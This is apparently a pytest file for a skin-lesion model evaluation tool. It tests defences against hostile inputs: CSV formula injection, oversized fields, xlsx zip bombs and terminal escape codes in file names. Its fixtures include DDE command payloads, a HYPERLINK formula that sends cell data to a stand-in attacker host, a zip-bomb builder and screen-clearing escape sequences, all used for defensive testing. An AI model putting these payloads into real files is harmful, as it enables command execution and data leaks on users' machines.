"""Hostile answers and files (issue 20, items 12, 13, 14, 20): formulas in our CSVs, answers longer
than the csv module's field limit, answers the paper's ROUGE cannot score, spreadsheet zip bombs."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from mm_skin.cli import ExitCode
from skinvl.cli import main
from skinvl.evaluation.predictions import read_predictions

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1:A9)", "+1+1",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted"]
HARMLESS = ["-1.5", "'tis a nevus", "plain answer"]


def _jsonl(path: Path, predictions: list[str], answer: str = "A benign nevus.") -> Path:
    lines = [json.dumps({"id": f"q{i}", "question": "What is it?", "answer": answer, "prediction": p})
             for i, p in enumerate(predictions)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _score(predictions: Path, out: Path, *extra: str) -> int:
    return main(["eval", "score", "--predictions", str(predictions), "--out", str(out), "--no-bertscore", *extra])


# ------------------------------------------------------------------------------ CSV injection (item 20)


def test_formula_answers_are_neutralised_in_every_csv_and_read_back_exactly(tmp_path):
    source = _jsonl(tmp_path / "answers.jsonl", FORMULAS + HARMLESS)
    assert _score(source, tmp_path / "out", "--protocol", "standard") == ExitCode.OK
    written = tmp_path / "out" / "predictions.csv"
    with written.open(newline="", encoding="utf-8") as f:
        cells = [row["prediction"] for row in csv.DictReader(f)]  # what a spreadsheet sees
    assert all(cell.startswith("'") for cell in cells[: len(FORMULAS)]), cells
    assert cells[len(FORMULAS):] == HARMLESS  # numbers and ordinary text untouched
    # Our own reader gives the raw answers back, so a re-score of the CSV is the same score.
    assert [s.prediction for s in read_predictions(written)] == FORMULAS + HARMLESS
    assert _score(written, tmp_path / "again", "--protocol", "standard") == ExitCode.OK
    first, again = (json.loads((tmp_path / d / "results.json").read_text())["metrics"] for d in ("out", "again"))
    assert first == again


def test_zeroshot_predictions_csv_is_neutralised(tmp_path):
    from skinvl.evaluation.classification import write_classification_outputs

    payload = {"metrics": {"accuracy": 0.0}, "per_class": {"Nevus": {"recall": 0.0, "support": 1}},
               "confusion_matrix": {"counts": [[0, 1]], "rows": ["Nevus"], "columns": ["Nevus", "unparseable"]}}
    rows = [{"id": "1", "image": "@evil.png", "label": "Nevus", "prediction": FORMULAS[0], "parsed": "unparseable"}]
    write_classification_outputs(tmp_path, payload, rows, "zero-shot")
    with (tmp_path / "predictions.csv").open(newline="", encoding="utf-8") as f:
        [row] = list(csv.DictReader(f))
    assert row["prediction"] == "'" + FORMULAS[0] and row["image"] == "'@evil.png"


# ------------------------------------------------------------------------------ long fields (item 14)


@pytest.fixture
def default_field_limit():
    """The csv module's default limit, as a fresh process has it (another test may have raised it)."""
    before = csv.field_size_limit(131072)
    yield
    csv.field_size_limit(before)


def test_answers_over_the_csv_field_limit_score_and_compare(tmp_path, default_field_limit):
    long_answer = "y" * 140_000  # over the csv module's 131,072-character default
    runs = []
    for name in ("a", "b"):
        source = _jsonl(tmp_path / f"{name}.jsonl", [long_answer, "A benign nevus.", "No."])
        assert _score(source, tmp_path / name, "--protocol", "standard") == ExitCode.OK
        runs.append(tmp_path / name)
    csv.field_size_limit(131072)
    rescored = read_predictions(tmp_path / "a" / "predictions.csv")  # `eval score` of our own CSV
    assert rescored[0].prediction == long_answer
    csv.field_size_limit(131072)
    code = main(["eval", "compare", *map(str, runs), "--out", str(tmp_path / "c"), "--resamples", "50"])
    assert code == ExitCode.OK


# ------------------------------------------------------------------------------ paper ROUGE (item 13)


def test_answer_the_rouge_package_cannot_score_is_scored_by_the_fallback_and_counted(tmp_path, capsys):
    from rouge import Rouge

    rambling = " ".join(f"lesion{i % 50}" for i in range(1000))  # 1,000 words, no period
    reference = " ".join(f"lesion{i % 50}" for i in range(990))
    with pytest.raises(RecursionError):  # the paper's library on its own: the run could never be scored
        Rouge().get_scores(rambling, reference)
    source = tmp_path / "a.jsonl"
    rows = [{"id": "long", "question": "q", "answer": reference, "prediction": rambling},
            {"id": "short", "question": "q", "answer": "A benign nevus.", "prediction": "A nevus."}]
    source.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    assert _score(source, tmp_path / "out", "--protocol", "paper") == ExitCode.OK
    doc = json.loads((tmp_path / "out" / "results.json").read_text())
    assert doc["paper_rouge_fallback"] == {"count": 1, "scorer": "rouge-score, no stemming", "rows": ["long"]}
    assert "scored by rouge-score" in capsys.readouterr().err
    with (tmp_path / "out" / "predictions.csv").open(newline="", encoding="utf-8") as f:
        long_row, short_row = csv.DictReader(f)
    assert 0.9 < float(long_row["rouge_l"]) <= 1.0  # 990 of 1,000 words in order
    assert float(short_row["rouge_l"]) == pytest.approx(Rouge().get_scores("A nevus.", "A benign nevus.")[0]["rouge-l"]["f"])


# ------------------------------------------------------------------------------ spreadsheet bombs (item 12)


def _vlmevalkit_sheet(path: Path, padding: int = 0) -> Path:
    """A real VLMEvalKit-style .xlsx; ``padding`` bytes of XML whitespace inflate its sheet (a bomb)."""
    import zipfile

    import pandas as pd

    plain = path.with_name("plain.xlsx")
    pd.DataFrame({"index": [0, 1], "question": ["q0", "q1"], "answer": ["Yes.", "A nevus."],
                  "prediction": ["Yes.", "A nevus."]}).to_excel(plain, index=False)
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for member in src.infolist():
            data = src.read(member)
            if member.filename == "xl/worksheets/sheet1.xml" and padding:
                head, tail = data.rsplit(b"</worksheet>", 1)
                with dst.open(member.filename, "w") as f:
                    f.write(head)
                    block = b" " * (1 << 20)
                    for _ in range(padding // len(block)):
                        f.write(block)
                    f.write(b"</worksheet>" + tail)
            else:
                dst.writestr(member, data)
    return path


def test_xlsx_zip_bomb_is_refused_before_it_is_unpacked(tmp_path, capsys):
    from skinvl.evaluation.foreign import MAX_XLSX_UNCOMPRESSED_BYTES

    fine = _vlmevalkit_sheet(tmp_path / "fine.xlsx")
    assert _score(fine, tmp_path / "ok", "--protocol", "standard") == ExitCode.OK
    capsys.readouterr()
    bomb = _vlmevalkit_sheet(tmp_path / "m_MMSkin.xlsx", padding=MAX_XLSX_UNCOMPRESSED_BYTES + (1 << 20))
    assert bomb.stat().st_size < MAX_XLSX_UNCOMPRESSED_BYTES // 100  # small on disk
    assert _score(bomb, tmp_path / "out", "--protocol", "standard") == ExitCode.BAD_INPUT
    [line] = capsys.readouterr().err.strip().splitlines()
    assert f"{bomb}: unpacks to" in line and "'xl/worksheets/sheet1.xml'" in line and "export it again" in line


def test_xlsx_that_is_no_zip_is_one_line(tmp_path, capsys):
    sheet = tmp_path / "m_MMSkin.xlsx"
    sheet.write_bytes(b"index\tprediction\n0\tYes\n")
    assert _score(sheet, tmp_path / "out") == ExitCode.BAD_INPUT
    [line] = capsys.readouterr().err.strip().splitlines()
    assert "not a readable .xlsx" in line


# ------------------------------------------------------------------------------ terminal (item 21)


def test_escape_codes_in_release_file_names_reach_no_terminal(tmp_path, capsys):
    from test_dataset import make_release

    import mm_skin_dataset as mm

    source = make_release(tmp_path / "release", test=[["dataset/bk1_1_1.png", "What is shown?", "A naevus."]])
    official = source / "Dataframe/test/vqa/MM-Skin_test.csv"
    official.rename(official.with_name("\x1b]0;owned\x07\x1b[2Jevil_test.csv"))  # the only *_test.csv: used
    capsys.readouterr()
    assert mm.main(["build", str(source), "--out", str(tmp_path / "out")]) == ExitCode.OK
    err = capsys.readouterr().err
    assert "evil_test.csv" in err  # named, without its escape sequences
    summary = err[err.index("mm-skin build: wrote"):]  # after the progress bars
    assert not any(ch in summary for ch in "\x1b\x07") and "owned" not in summary

    # --strict lists every row not written, one per line (printable, never squashed into one line)
    vqa = source / "MM-SkinQA/VQA.csv"
    vqa.write_text(vqa.read_text() + "dataset/\x1b[2Jgone1.png,Q?,A.\ndataset/gone2.png,Q?,A.\n")
    capsys.readouterr()
    assert mm.main(["build", str(source), "--out", str(tmp_path / "strict"), "--strict"]) == ExitCode.STRICT
    err = capsys.readouterr().err
    report = err[err.index("mm-skin build: --strict"):].splitlines()
    assert len(report) > 2 and any("gone1.png" in line for line in report) and any("gone2.png" in line for line in report)
    assert not any(ch in "\n".join(report) for ch in "\x1b\x07")


@pytest.mark.parametrize("argv", [
    ["skinvl", "generate", "--model", "skinvl-tiny", "--image", "IN", "--question", "q"],
    ["skinvl", "convert", "IN", "OUT"],
    ["skinvl", "train", "--model", "skinvl-tiny", "--data", "IN", "--output", "OUT", "--max-steps", "1"],
    ["mm-skin", "audit", "IN", "--out", "OUT"],
    ["mm-skin", "benchmark", "build", "ddi", "IN", "--out", "OUT"],
], ids=["generate", "convert", "train", "audit", "benchmark"])
def test_every_cli_error_naming_a_hostile_path_reaches_the_terminal_printable(argv, tmp_path, capsys):
    # A path (from a user, a CSV or a server) holding terminal escapes: clear screen, window title.
    hostile = str(tmp_path / "\x1b]0;owned\x07\x1b[2Jmissing")
    argv = [hostile if a == "IN" else str(tmp_path / "out") if a == "OUT" else a for a in argv]
    import mm_skin_dataset

    run = main if argv[0] == "skinvl" else mm_skin_dataset.main
    assert run(argv[1:]) == 2
    err = capsys.readouterr().err
    assert "missing" in err and not any(ch in err for ch in "\x1b\x07"), err
